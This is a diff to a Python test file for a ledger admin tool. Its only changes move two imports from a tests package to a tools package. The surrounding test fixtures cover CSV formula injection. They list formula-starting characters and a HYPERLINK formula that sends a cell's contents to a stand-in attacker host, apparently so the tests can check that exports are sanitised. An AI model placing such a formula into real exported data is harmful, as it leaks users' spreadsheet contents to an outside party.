@@ -15,9 +15,9 @@ from hypothesis import strategies as st
 from ledger.admin import cells
 from ledger.core import texts
 from tests.admin.conftest import Command
-from tests.local.template import ROOT
 from tests.one_book.books import Books
 from tests.world import World
+from tools.local.template import ROOT
 
 SIGNS = ("=", "+", "-", "@", "\t", "\r", "'", "\n", "\uff1d")
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
@@ -132,7 +132,7 @@ def test_a_csvs_accounts_are_found_by_either_spelling(command: Command, books: B
 SCRIPT = """
 import io, os, sys
 from ledger.admin.__main__ import main
-from tests.local import engines
+from tools.local import engines
 
 with engines.with_table("moto") as engine:
     os.environ.update(engines.environment(engine))
